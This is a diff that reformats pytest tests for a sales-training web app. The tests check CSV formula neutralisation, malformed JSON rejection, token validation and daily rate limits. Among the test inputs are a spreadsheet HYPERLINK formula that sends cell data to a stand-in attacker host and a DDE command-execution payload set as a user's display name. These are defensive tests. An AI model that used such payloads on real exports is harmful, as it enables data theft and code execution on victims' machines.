@@ -146,8 +146,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(
 
 def test_every_formula_start_is_neutralised():
     cells = next(csv.reader(io.StringIO(csv_text([[*FORMULAS, "plain", 42, -1.5, ""]]))))
-    assert cells[:len(FORMULAS)] == ["'" + formula for formula in FORMULAS]
-    assert cells[len(FORMULAS):] == ["plain", "42", "-1.5", ""], "numbers and plain text stay as they are"
+    assert cells[: len(FORMULAS)] == ["'" + formula for formula in FORMULAS]
+    assert cells[len(FORMULAS) :] == ["plain", "42", "-1.5", ""], "numbers and plain text stay as they are"
     assert safe_cell("a=b") == "a=b"
 
 
@@ -172,8 +172,12 @@ def test_team_csv_export_neutralises_formulas(client, session):
     manager = make_user(session, Role.manager, team="A组")
     create_user(session, "formula-rep", PASSWORD, Role.rep, "A组", display_name="=cmd|' /C calc'!A0")
     headers = auth_headers(client, manager)
-    drill = {"scenario_id": "mfg_vitamin_erp", "team": "A组",
-             "due": (datetime.now(UTC) + timedelta(days=3)).date().isoformat(), "pass_score": 60}
+    drill = {
+        "scenario_id": "mfg_vitamin_erp",
+        "team": "A组",
+        "due": (datetime.now(UTC) + timedelta(days=3)).date().isoformat(),
+        "pass_score": 60,
+    }
     assert client.post("/api/drills", json=drill, headers=headers).status_code == 201
     text = client.get("/api/team/export.csv", headers=headers).text
     cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
@@ -182,9 +186,17 @@ def test_team_csv_export_neutralises_formulas(client, session):
 
 # --- JSON the error response could not encode ---------------------------------------------------------------
 
-BAD_JSON = [b'{"question": "\\ud800"}', b'{"question": "ok\\udc00"}', b'{"\\ud800": 1}', b'{"question": NaN}',
-            b'{"question": Infinity}', b'{"question": -Infinity}', b'{"question": 1e400}',
-            b'{"question": "\xed\xa0\x80"}', b'{"scenario_id": "\\udc00x"}']
+BAD_JSON = [
+    b'{"question": "\\ud800"}',
+    b'{"question": "ok\\udc00"}',
+    b'{"\\ud800": 1}',
+    b'{"question": NaN}',
+    b'{"question": Infinity}',
+    b'{"question": -Infinity}',
+    b'{"question": 1e400}',
+    b'{"question": "\xed\xa0\x80"}',
+    b'{"scenario_id": "\\udc00x"}',
+]
 
 
 @pytest.mark.parametrize("url", ["/api/ask", "/api/roleplays", "/api/opportunities", "/api/coach/spin"])
@@ -210,11 +222,17 @@ def signed(claims: dict) -> dict:
 def test_tokens_with_odd_subjects_or_no_expiry_answer_401(client, session):
     user = make_user(session, Role.rep)
     later = datetime.now(UTC) + timedelta(minutes=5)
-    odd = [{"sub": "99999999999999999999", "ver": 0, "exp": later}, {"sub": "-1", "ver": 0, "exp": later},
-           {"sub": "1.5", "ver": 0, "exp": later}, {"sub": "abc", "ver": 0, "exp": later},
-           {"sub": " 1", "ver": 0, "exp": later}, {"sub": "٣", "ver": 0, "exp": later},
-           {"sub": str(user.id), "ver": 0}, {"sub": str(user.id), "exp": later},
-           {"sub": str(user.id), "ver": 99999999999999999999, "exp": later}]
+    odd = [
+        {"sub": "99999999999999999999", "ver": 0, "exp": later},
+        {"sub": "-1", "ver": 0, "exp": later},
+        {"sub": "1.5", "ver": 0, "exp": later},
+        {"sub": "abc", "ver": 0, "exp": later},
+        {"sub": " 1", "ver": 0, "exp": later},
+        {"sub": "٣", "ver": 0, "exp": later},
+        {"sub": str(user.id), "ver": 0},
+        {"sub": str(user.id), "exp": later},
+        {"sub": str(user.id), "ver": 99999999999999999999, "exp": later},
+    ]
     statuses = [client.get("/api/me", headers=signed(claims)).status_code for claims in odd]
     assert statuses == [401] * len(odd)
     assert client.get("/api/me", headers=signed({"sub": str(user.id), "ver": 0, "exp": later})).status_code == 200
@@ -225,15 +243,21 @@ def test_tokens_with_odd_subjects_or_no_expiry_answer_401(client, session):
 
 @pytest.fixture
 def daily_client(make_settings, engine):
-    app = create_app(make_settings(rate_limit_roleplays_daily="2/day", rate_limit_deals_daily="2/day",
-                                   rate_limit_flow_runs_daily="2/day"), engine)
+    app = create_app(
+        make_settings(
+            rate_limit_roleplays_daily="2/day", rate_limit_deals_daily="2/day", rate_limit_flow_runs_daily="2/day"
+        ),
+        engine,
+    )
     with TestClient(app) as client:
         yield client
 
 
-CREATIONS = [("/api/roleplays", {"scenario_id": "mfg_vitamin_erp"}, "role-plays"),
-             ("/api/opportunities", {"account": "华东精工"}, "deals"),
-             ("/api/flows/opportunity_check/runs", {}, "flow runs")]
+CREATIONS = [
+    ("/api/roleplays", {"scenario_id": "mfg_vitamin_erp"}, "role-plays"),
+    ("/api/opportunities", {"account": "华东精工"}, "deals"),
+    ("/api/flows/opportunity_check/runs", {}, "flow runs"),
+]
 
 
 @pytest.mark.parametrize("url, body, what", CREATIONS, ids=[c[2] for c in CREATIONS])
@@ -253,10 +277,15 @@ def test_daily_limit_on_the_pages_is_a_readable_page(daily_client, session):
     web_login(daily_client, user.username)
     csrf = {"X-CSRF-Token": csrf_from(daily_client.get("/").text)}
     for _ in range(2):
-        assert daily_client.post("/pipeline/opportunities", data={"account": "华东精工"}, headers=csrf,
-                                 follow_redirects=False).status_code == 303
-    page = daily_client.post("/pipeline/opportunities", data={"account": "华东精工"},
-                             headers=csrf | {"Accept": "text/html"})
+        assert (
+            daily_client.post(
+                "/pipeline/opportunities", data={"account": "华东精工"}, headers=csrf, follow_redirects=False
+            ).status_code
+            == 303
+        )
+    page = daily_client.post(
+        "/pipeline/opportunities", data={"account": "华东精工"}, headers=csrf | {"Accept": "text/html"}
+    )
     assert page.status_code == 429 and "每日上限" in page.text
 
 
